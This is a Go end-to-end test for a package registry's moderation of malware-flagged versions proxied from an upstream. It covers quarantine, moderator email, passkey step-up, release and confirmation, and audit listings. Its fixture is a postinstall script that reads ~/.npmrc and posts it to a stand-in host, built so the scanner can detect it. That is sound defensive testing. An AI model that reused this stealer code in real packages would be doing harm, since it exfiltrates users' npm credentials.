package browser

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/rampart/rampart/internal/testserver"
)

// TestUpstreamHeldVersionsModeratedOnTheWeb (issue 13): a version proxied
// from an upstream registry whose tarball carries the scanner's test
// malware is held on its first download (npm install fails); the site's
// moderators are mailed the link to its evidence page; a moderator signed
// in with a passkey finds it in /moderation beside the local holds, reads
// the evidence (rule, file, excerpt, the upstream and the integrity) and
// releases a false positive (npm then installs it) or confirms the other
// past the step-up window, after confirming the passkey again (its MAL-
// advisory shown, and npm still refused). The admin area lists both
// decisions among the staff's actions.
func TestUpstreamHeldVersionsModeratedOnTheWeb(t *testing.T) {
	t.Parallel()
	// The upstream does not scan: it serves what it is given.
	up := testserver.Start(t, testserver.Options{Config: "[scan]\ndisabled = true\n"})
	if out, err := up.Admin(t, alicePW+"\n", "user", "create", "--name", "alice", "--email", "alice@example.com", "--verified", "--password-stdin"); err != nil {
		t.Fatalf("admin user create alice on the upstream: %v\n%s", err, out)
	}
	upNPM := testserver.NewNPM(t, up.URL)
	upNPM.Login("alice", alicePW, "")
	stealer := "const fs = require('fs'), os = require('os')\nrequire('https').request({ host: 'collect.invalid', method: 'POST' }).end(fs.readFileSync(os.homedir() + '/.npmrc'))\n"
	for _, name := range []string{"up-falsepos", "up-stealer"} {
		dir := writePkg(t, map[string]any{"name": name, "version": "1.0.0", "scripts": map[string]string{"postinstall": "node install.js"}}, "# "+name+"\n")
		if err := os.WriteFile(filepath.Join(dir, "install.js"), []byte(stealer), 0o644); err != nil {
			t.Fatal(err)
		}
		upNPM.MustRun(dir, "publish")
	}

	s := testserver.Start(t, testserver.Options{SMTP: true,
		Config: fmt.Sprintf("[mfa]\nstep_up_window = \"1m\"\n\n[[upstream]]\nname = \"public\"\nurl = %q\npackages = [\"*\"]\n", up.URL)})
	if out, err := s.Admin(t, alicePW+"\n", "user", "create", "--name", "chief", "--email", "chief@example.com", "--verified", "--password-stdin", "--admin"); err != nil {
		t.Fatalf("admin user create chief: %v\n%s", err, out)
	}
	client := testserver.NewNPM(t, s.URL)
	install := func(name string) testserver.Result {
		t.Helper()
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "package.json"), []byte(`{"name":"app","version":"1.0.0","private":true}`), 0o644); err != nil {
			t.Fatal(err)
		}
		return client.Run(dir, "install", name, "--ignore-scripts")
	}
	for _, name := range []string{"up-falsepos", "up-stealer"} {
		r := install(name)
		if r.Err == nil {
			t.Fatalf("npm install %s succeeded although its tarball carries malware:\n%s", name, r.Output())
		}
		mustContain(t, r.Output(), name+"@1.0.0", "is quarantined", "RAMPART-CREDENTIAL-EXFILTRATION")
	}

	// The moderators are mailed, with the evidence page's link.
	evidence := s.URL + "moderation/upstream/package/up-falsepos/v/1.0.0"
	m := waitForMail(t, s, "chief@example.com", "up-falsepos@1.0.0 from public was quarantined")
	mustContain(t, m.Text, "Upstream:  public", "Integrity: sha512-", "RAMPART-CREDENTIAL-EXFILTRATION", evidence)

	b := newBrowser(t, 3*time.Minute)
	b.addAuthenticator(platformPasskeys)
	b.run("open the sign-in page", chromedp.Navigate(s.URL+"login?next=/account"))
	b.enterPassword("chief", alicePW, `nav.account .who`)
	b.registerKey(s.URL, "Admin laptop", "passkey")
	b.signOut()
	b.run("sign in with the passkey",
		chromedp.Navigate(s.URL+"login?next=/moderation"),
		chromedp.WaitVisible(chromedp.CSS(`#passkey-signin`)),
		chromedp.Click(chromedp.CSS(`#passkey-signin`)),
		chromedp.WaitVisible(chromedp.CSS(`nav.account .who`)),
	)
	b.run("open the moderation area",
		chromedp.Navigate(s.URL+"moderation"),
		chromedp.WaitVisible(chromedp.CSS(`table.held-proxied`)),
	)
	mustContain(t, b.text(`table.held-proxied`), "up-falsepos@1.0.0", "up-stealer@1.0.0", "public", "RAMPART-CREDENTIAL-EXFILTRATION")
	mustContain(t, b.text(`table.held`), "Nothing is held")

	b.run("open the false positive's evidence",
		chromedp.Click(chromedp.CSS(`tr.held-proxied-version[data-version="up-falsepos@1.0.0"] a`)),
		chromedp.WaitVisible(chromedp.CSS(`table.findings`)),
	)
	if loc := b.location(); loc != evidence {
		t.Fatalf("the evidence page is at %s, want %s", loc, evidence)
	}
	mustContain(t, b.text(`p.state`), "held")
	mustContain(t, b.text(`table.findings`), "RAMPART-CREDENTIAL-EXFILTRATION", "install.js", "critical", ".npmrc")
	mustContain(t, b.text(`dl.upstream-source`), "public", "sha512-")
	// The bytes held are kept as evidence: the files, and the flagged
	// file's lines around the finding, the matched one marked.
	b.run("read the kept files", chromedp.WaitVisible(chromedp.CSS(`table.files tr.file`)))
	mustContain(t, b.text(`table.files`), "install.js", "package.json", "README.md")
	mustContain(t, b.text(`figure.finding-context[data-file="install.js"]`), "install.js", "RAMPART-CREDENTIAL-EXFILTRATION", "line 1")
	mustContain(t, b.text(`figure.finding-context pre.excerpt span.match`), "readFileSync(os.homedir() + '/.npmrc')")
	b.run("release it",
		chromedp.SetValue(chromedp.CSS(`form.release input[name="reason"]`), "our own test fixture"),
		chromedp.Click(chromedp.CSS(`form.release button`)),
		chromedp.WaitVisible(chromedp.CSS(`p[role="status"]`)),
	)
	mustContain(t, b.text(`p[role="status"]`), "released: served again")
	mustContain(t, b.text(`p.state`), "released", "chief", "our own test fixture")
	if r := install("up-falsepos"); r.Err != nil {
		t.Fatalf("npm install of the released version failed:\n%s", r.Output())
	}
	// The decided view keeps it, with who decided and why.
	b.run("open the decided proxied versions",
		chromedp.Navigate(s.URL+"moderation"),
		chromedp.WaitVisible(chromedp.CSS(`p.proxied-links`)),
		chromedp.Click(chromedp.CSS(`p.proxied-links a[href="/moderation/upstream/decided"]`)),
		chromedp.WaitVisible(chromedp.CSS(`table.decided-proxied`)),
	)
	mustContain(t, b.text(`tr.decided-proxied-version[data-version="up-falsepos@1.0.0"]`), "released", "chief", "our own test fixture", "public")
	b.run("its evidence stays readable",
		chromedp.Click(chromedp.CSS(`tr.decided-proxied-version[data-version="up-falsepos@1.0.0"] a`)),
		chromedp.WaitVisible(chromedp.CSS(`table.files tr.file`)),
	)
	mustContain(t, b.text(`table.files`), "install.js")

	b.run("open the other's evidence",
		chromedp.Navigate(s.URL+"moderation"),
		chromedp.WaitVisible(chromedp.CSS(`table.held-proxied`)),
		chromedp.Click(chromedp.CSS(`tr.held-proxied-version[data-version="up-stealer@1.0.0"] a`)),
		chromedp.WaitVisible(chromedp.CSS(`form.confirm`)),
	)
	// Past the step-up window, confirming asks for the passkey first.
	s.Advance(t, 2*time.Minute)
	stealerPage := s.URL + "moderation/upstream/package/up-stealer/v/1.0.0"
	b.run("confirm it malicious: asked to confirm the factor",
		chromedp.SetValue(chromedp.CSS(`form.confirm input[name="reason"]`), "steals npm tokens"),
		chromedp.Click(chromedp.CSS(`form.confirm button`)),
		chromedp.WaitVisible(chromedp.CSS(`#key-confirm`)),
	)
	if status, body := upstreamHoldGet(t, s.URL+"up-stealer/-/up-stealer-1.0.0.tgz"); status != http.StatusNotFound || !strings.Contains(body, "held for review") {
		t.Fatalf("before the step-up the tarball answers %d %s, want it still held", status, body)
	}
	b.run("confirm with the passkey",
		chromedp.Click(chromedp.CSS(`#key-confirm`)),
		chromedp.WaitVisible(chromedp.CSS(`form.confirm`)),
	)
	if loc := b.location(); loc != stealerPage {
		t.Fatalf("after the step-up the browser is at %s, want back at %s", loc, stealerPage)
	}
	b.run("confirm it malicious, confirmed",
		chromedp.SetValue(chromedp.CSS(`form.confirm input[name="reason"]`), "steals npm tokens"),
		chromedp.Click(chromedp.CSS(`form.confirm button`)),
		chromedp.WaitVisible(chromedp.CSS(`p[role="status"]`)),
	)
	mustContain(t, b.text(`p[role="status"]`), "confirmed malicious", "advisory MAL-")
	mustContain(t, b.text(`p.advisory`), "MAL-")
	mustContain(t, b.text(`p.state`), "confirmed", "steals npm tokens")
	r := install("up-stealer")
	if r.Err == nil {
		t.Fatalf("npm installed a version confirmed malicious:\n%s", r.Output())
	}
	// It leaves the packument, and its tarball is refused with the id.
	mustContain(t, r.Output(), "No versions available for up-stealer")
	malID := strings.TrimSpace(b.text(`p.advisory strong`))
	if status, body := upstreamHoldGet(t, s.URL+"up-stealer/-/up-stealer-1.0.0.tgz"); status != http.StatusForbidden || !strings.HasPrefix(malID, "MAL-") || !strings.Contains(body, malID) {
		t.Fatalf("the confirmed tarball answers %d %s, want 403 naming %q", status, body, malID)
	}
	b.run("back to the area", chromedp.Navigate(s.URL+"moderation"), chromedp.WaitVisible(chromedp.CSS(`table.held`)))
	if strings.Contains(b.text(`main`), "up-stealer@1.0.0") {
		t.Fatalf("the decided versions are still listed:\n%s", b.text(`main`))
	}
	// Both decisions are staff actions: the admin area lists them.
	b.run("open the admin area", chromedp.Navigate(s.URL+"admin"), chromedp.WaitVisible(chromedp.CSS(`table.events`)))
	events := b.text(`table.events`)
	mustContain(t, events, "upstream.decide", "chief", "up-stealer@1.0.0", "up-falsepos@1.0.0")
	// The operator's list of proxied packages: the released version's one
	// complete download (the refused first attempt counted nothing), the
	// holds, the pinned integrity.
	b.run("open the proxied packages",
		chromedp.Navigate(s.URL+"admin/proxied?q=up-"),
		chromedp.WaitVisible(chromedp.CSS(`table.proxied-packages tr.proxied-package`)),
	)
	falsepos := `tr.proxied-package[data-package="up-falsepos"]`
	if got := strings.TrimSpace(b.text(falsepos + ` td.downloads`)); got != "1" {
		t.Fatalf("up-falsepos's downloads on the admin page: %q, want 1\n%s", got, b.text(`table.proxied-packages`))
	}
	mustContain(t, b.text(falsepos), "public", "1.0.0", "sha512-", "released")
	mustContain(t, b.text(`tr.proxied-package[data-package="up-stealer"]`), "confirmed")
	b.run("search by name prefix",
		chromedp.SetValue(chromedp.CSS(`#proxied-q`), "up-st"),
		chromedp.Submit(chromedp.CSS(`form.proxied-search`)),
		chromedp.WaitVisible(chromedp.CSS(`tr.proxied-package[data-package="up-stealer"]`)),
	)
	if strings.Contains(b.text(`table.proxied-packages`), "up-falsepos") {
		t.Fatalf("the search for up-st lists up-falsepos:\n%s", b.text(`table.proxied-packages`))
	}
	b.run("the decided view lists the confirmation first",
		chromedp.Navigate(s.URL+"moderation/upstream/decided"),
		chromedp.WaitVisible(chromedp.CSS(`table.decided-proxied`)),
	)
	mustContain(t, b.text(`table.decided-proxied tbody tr:first-child`), "up-stealer@1.0.0", "confirmed", "chief", "MAL-")
}

// upstreamHoldGet fetches url as an anonymous client: its status and body.
func upstreamHoldGet(t *testing.T, url string) (int, string) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(body)
}
